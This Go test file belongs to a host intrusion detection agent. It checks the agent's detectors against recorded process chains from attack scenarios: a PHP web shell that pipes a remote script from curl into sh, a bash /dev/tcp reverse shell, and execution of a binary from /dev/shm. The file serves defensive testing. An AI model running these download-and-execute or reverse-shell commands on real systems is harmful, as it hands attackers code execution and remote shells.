package scenarios

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/picket-agent/picket/agent/detect"
	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/signal"
	"github.com/picket-agent/picket/schema"
)

// These tests need no root: they check every expect.json against the real
// detectors fed the process chains the scenarios produce (as observed on
// Debian 12 — see README.md), and the runner's matching logic. A change in
// a rule's wording that breaks a scenario's expectation fails here first.

func anc(pid int, comm, exe string, args ...string) event.Ancestor {
	return event.Ancestor{PID: pid, Comm: comm, Exe: exe, Args: args}
}

// observedExecs are the execs of each scenario as the process sensor should
// report them (pids from one real run).
func observedExecs() map[string][]*event.Process {
	runner := []event.Ancestor{anc(24640, "bash", "/usr/bin/bash", "bash", "run.sh"),
		anc(20910, "scenarios.test", "/tmp/go-build1/b001/scenarios.test"), anc(20859, "go", "/usr/local/go/bin/go")}
	with := func(first []event.Ancestor, rest []event.Ancestor) []event.Ancestor {
		return append(append([]event.Ancestor{}, first...), rest...)
	}
	fpm := with([]event.Ancestor{anc(24668, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"),
		anc(24666, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master process (/tmp/x/php-fpm.conf)")}, runner)
	shID := anc(24700, "sh", "/usr/bin/dash", "sh", "-c", "id")
	shDL := anc(24704, "sh", "/usr/bin/dash", "sh", "-c", "curl -s http://198.18.0.2:8081/x.sh | sh")
	shX := anc(24706, "sh", "/usr/bin/dash", "sh")
	www := func(pid, ppid int, lin []event.Ancestor, exe string, args ...string) *event.Process {
		return &event.Process{PID: pid, PPID: ppid, UID: 33, GID: 33, User: "www-data", Comm: filepath.Base(args[0]), Exe: exe, Args: args, Lineage: lin}
	}
	root := func(pid, ppid int, lin []event.Ancestor, exe string, args ...string) *event.Process {
		return &event.Process{PID: pid, PPID: ppid, User: "root", Comm: filepath.Base(exe), Exe: exe, Args: args, Lineage: lin}
	}
	bash := runner
	return map[string][]*event.Process{
		"webshell": {
			www(24700, 24668, fpm, "/usr/bin/dash", "sh", "-c", "id"),
			www(24700, 24668, with([]event.Ancestor{shID}, fpm), "/usr/bin/id", "id"),
			www(24704, 24668, fpm, "/usr/bin/dash", "sh", "-c", "curl -s http://198.18.0.2:8081/x.sh | sh"),
			www(24705, 24704, with([]event.Ancestor{shDL}, fpm), "/usr/bin/curl", "curl", "-s", "http://198.18.0.2:8081/x.sh"),
			www(24706, 24704, with([]event.Ancestor{shDL}, fpm), "/usr/bin/dash", "sh"),
			www(24707, 24706, with([]event.Ancestor{shX, shDL}, fpm), "/usr/bin/id", "id"),
			www(24708, 24706, with([]event.Ancestor{shX, shDL}, fpm), "/usr/bin/uname", "uname", "-a"),
		},
		"reverse_shell": {
			root(23730, 24640, bash, "/usr/bin/timeout", "timeout", "10", "bash", "-c", "bash -i >& /dev/tcp/198.18.1.1/4444 0>&1"),
			root(23734, 23730, with([]event.Ancestor{anc(23730, "timeout", "/usr/bin/timeout")}, bash), "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/198.18.1.1/4444 0>&1"),
			root(23734, 23730, with([]event.Ancestor{anc(23730, "timeout", "/usr/bin/timeout")}, bash), "/usr/bin/bash", "bash", "-i"),
			root(23740, 23734, with([]event.Ancestor{anc(23734, "bash", "/usr/bin/bash"), anc(23730, "timeout", "/usr/bin/timeout")}, bash), "/usr/bin/id", "id"),
		},
		"devshm": {
			root(21605, 24640, bash, "/usr/bin/unshare", "unshare", "--mount", "--propagation", "private", "sh", "-c", "…"),
			root(21605, 24640, bash, "/usr/bin/dash", "sh", "-c", "…", "devshm", "/dev/shm/.picket-scenario-payload"),
			root(21608, 21605, with([]event.Ancestor{anc(21605, "sh", "/usr/bin/dash")}, bash), "/usr/bin/cp", "cp", "/usr/bin/id", "/dev/shm/.picket-scenario-payload"),
			{PID: 21610, PPID: 21605, User: "root", Comm: ".picket-scenari", Exe: "/dev/shm/.picket-scenario-payload", Args: []string{"/dev/shm/.picket-scenario-payload"},
				Lineage: with([]event.Ancestor{anc(21605, "sh", "/usr/bin/dash")}, bash)},
		},
		"benign": {
			root(21100, 24640, bash, "/usr/bin/awk", "awk", "{ s += $3 } END { print s }", "/tmp/picket-scenario-benign-1/data/log-1.txt"),
			root(21101, 24640, bash, "/usr/bin/id", "id", "-un"),
			root(21102, 24640, bash, "/usr/bin/whoami", "whoami"),
			root(21103, 24640, bash, "/usr/bin/uname", "uname", "-r"),
			root(21104, 24640, bash, "/usr/bin/dash", "sh", "-c", "echo cGlja2V0Cg== | base64 -d | wc -c"),
			root(21105, 21104, with([]event.Ancestor{anc(21104, "sh", "/usr/bin/dash")}, bash), "/usr/bin/base64", "base64", "-d"),
			root(21106, 24640, bash, "/usr/bin/python3.11", "/usr/bin/python3", "-c", "import sys; print(sys.version.split()[0])"),
			root(21107, 24640, bash, "/usr/bin/dpkg-query", "dpkg-query", "-l"),
			root(21108, 24640, bash, "/usr/bin/apt-cache", "apt-cache", "policy", "bash"),
			root(21109, 24640, bash, "/usr/bin/python3.11", "/usr/bin/python3", "-m", "http.server", "--bind", "127.0.0.1", "--directory", "/tmp/picket-scenario-benign-1/www", "8000"),
			root(21110, 24640, bash, "/usr/bin/curl", "curl", "-sS", "--max-time", "5", "http://127.0.0.1:8000/health"),
			root(21111, 24640, bash, "/usr/bin/dash", "/bin/sh", "-c", "date +%s >>'/tmp/picket-scenario-benign-1/data/cron.log'; df -h / >/dev/null; uptime >/dev/null"),
			root(21112, 24640, bash, "/usr/bin/dash", "/bin/sh", "/tmp/picket-scenario-benign-1/data/job.sh", "/tmp/picket-scenario-benign-1/data"),
			root(21113, 21112, with([]event.Ancestor{anc(21112, "sh", "/usr/bin/dash")}, bash), "/usr/bin/ls", "ls", "/tmp/picket-scenario-benign-1/data"),
		},
	}
}

// TestExpectationsAgainstDetectors feeds each scenario's observed execs to
// the agent's detectors (default policy) and checks its expect.json on the
// resulting signals, gathered as one incident (correlation is the agent's
// business; the real run checks it).
func TestExpectationsAgainstDetectors(t *testing.T) {
	p, err := schema.Default()
	if err != nil {
		t.Fatal(err)
	}
	execs := observedExecs()
	dirs, _ := filepath.Glob("*/expect.json")
	if len(dirs) == 0 {
		t.Fatal("no */expect.json")
	}
	for _, f := range dirs {
		name := filepath.Dir(f)
		t.Run(name, func(t *testing.T) {
			exp, _, _ := loadExpectation(t, name)
			if exp.LiveOnly {
				t.Logf("%s: live_only (needs sensors beyond processes); checked by TestScenarios", name)
				return
			}
			procs, ok := execs[name]
			if !ok {
				t.Fatalf("scenario %s has no observed execs in expect_test.go", name)
			}
			set := detect.New(p, nil)
			in := incident{ID: 1, Status: "open", Level: "observe"}
			stages := map[string]bool{}
			for _, pr := range procs {
				set.Observe(&event.Event{Kind: event.ProcExec, Proc: pr}, func(s signal.Signal) {
					s.Evidence = nil // `picket incidents --json` prints evidence as lines
					b, err := json.Marshal(s)
					if err != nil {
						t.Fatal(err)
					}
					var sg sig
					if err := json.Unmarshal(b, &sg); err != nil {
						t.Fatal(err)
					}
					t.Logf("%s %v: %s", sg.Rule, sg.Entities, sg.Reason)
					in.Signals = append(in.Signals, sg)
					in.Entities = append(in.Entities, sg.Entities...)
					if !stages[sg.Stage] {
						stages[sg.Stage] = true
						in.Stages = append(in.Stages, sg.Stage)
					}
				})
			}
			var incs []incident
			if len(in.Signals) > 0 {
				incs = []incident{in}
			}
			if probs := append(checkPositive(exp, incs), checkNegative(exp, incs)...); len(probs) > 0 {
				t.Errorf("expect.json does not hold on the detectors' signals:\n  %s\n%s", strings.Join(probs, "\n  "), describe(incs))
			}
		})
	}
}

// TestChecks covers the runner's matching: attribution, forbidden rules,
// no_incidents, one_incident, and the failure messages.
func TestChecks(t *testing.T) {
	s := func(rule string, pids []string, reason string) sig {
		var ents []entity
		for _, p := range pids {
			ents = append(ents, entity{"process", p})
		}
		return sig{Rule: rule, Stage: "execution", Entities: append(ents, entity{"user", "root"}), Reason: reason}
	}
	foreignTmp := s("process.exec_tmp", []string{"900", "899"}, "execution from /tmp/: /tmp/TestX/001/picket: …")
	ours := map[int]bool{100: true, 101: true}
	incs := []incident{
		{ID: 1, Level: "observe", Signals: []sig{foreignTmp}},
		{ID: 2, Level: "observe", Stages: []string{"execution"}, Entities: []entity{{"user", "root"}},
			Signals: []sig{s("process.reverse_shell", []string{"101", "100"}, "reverse shell (/dev/tcp redirection) by uid 0: bash(101) \"bash -c bash -i >& /dev/tcp/198.18.1.1/4444 0>&1\"")}},
	}
	attribute(incs, ours)
	if !incs[0].Signals[0].foreign || incs[1].Signals[0].foreign {
		t.Fatalf("attribution: %+v", incs)
	}
	exp := expectation{NoIncidents: true}
	if p := checkNegative(exp, incs); len(p) != 1 || !strings.Contains(p[0], "#2") {
		t.Errorf("no_incidents: %q", p)
	}
	exp = expectation{ForbiddenRules: []string{"process.exec_tmp"}}
	if p := checkNegative(exp, incs); len(p) != 0 {
		t.Errorf("a foreign signal counted as forbidden: %q", p)
	}
	exp = expectation{Incidents: []incidentExpect{{Rules: []string{"process.reverse_shell"}, MinLevel: "observe", Entities: []string{"user:root"},
		ReasonContains: []string{"/dev/tcp/198.18.1.1/4444", "bash -i"}}}}
	if p := checkPositive(exp, incs); len(p) != 0 {
		t.Errorf("positive: %q", p)
	}
	exp.Incidents[0].MinLevel = "contain"
	if p := checkPositive(exp, incs); len(p) != 1 || !strings.Contains(p[0], "level observe < contain") {
		t.Errorf("min_level: %q", p)
	}
	exp = expectation{Incidents: []incidentExpect{{Rules: []string{"process.web_shell"}}}}
	p := checkPositive(exp, incs)
	if len(p) != 1 || !strings.Contains(p[0], "missing incident 1") || !strings.Contains(p[0], "no process.web_shell signal") {
		t.Errorf("missing: %q", p)
	}
	if d := describe(incs); !strings.Contains(d, "[not the scenario's: ignored]") || !strings.Contains(d, "#2") {
		t.Errorf("describe: %s", d)
	}
	// one_incident: the same rule in a second incident of the scenario.
	dup := incident{ID: 3, Level: "observe", Signals: []sig{s("process.reverse_shell", []string{"100"}, "again")}}
	incs = append(incs, dup)
	attribute(incs, ours)
	exp = expectation{Incidents: []incidentExpect{{Rules: []string{"process.reverse_shell"}, OneIncident: true}}}
	if p := checkPositive(exp, incs); len(p) != 1 || !strings.Contains(p[0], "#3") {
		t.Errorf("one_incident: %q", p)
	}
	// Attribution off: everything counts.
	incs = []incident{{ID: 1, Signals: []sig{foreignTmp}}}
	attribute(incs, nil)
	if p := checkNegative(expectation{NoIncidents: true}, incs); len(p) != 1 {
		t.Errorf("attribution off: %q", p)
	}
}

// TestScenarioFiles: every scenario's run.sh sources lib.sh in strict mode
// and its expect.json is valid.
func TestScenarioFiles(t *testing.T) {
	scripts, _ := filepath.Glob("*/run.sh")
	if len(scripts) == 0 {
		t.Fatal("no scenarios")
	}
	for _, f := range scripts {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		s := string(b)
		if !strings.Contains(s, "set -euo pipefail") || !strings.Contains(s, `source "$(dirname "$0")/../lib.sh"`) {
			t.Errorf("%s: must `set -euo pipefail` and source ../lib.sh", f)
		}
		loadExpectation(t, filepath.Dir(f))
	}
}
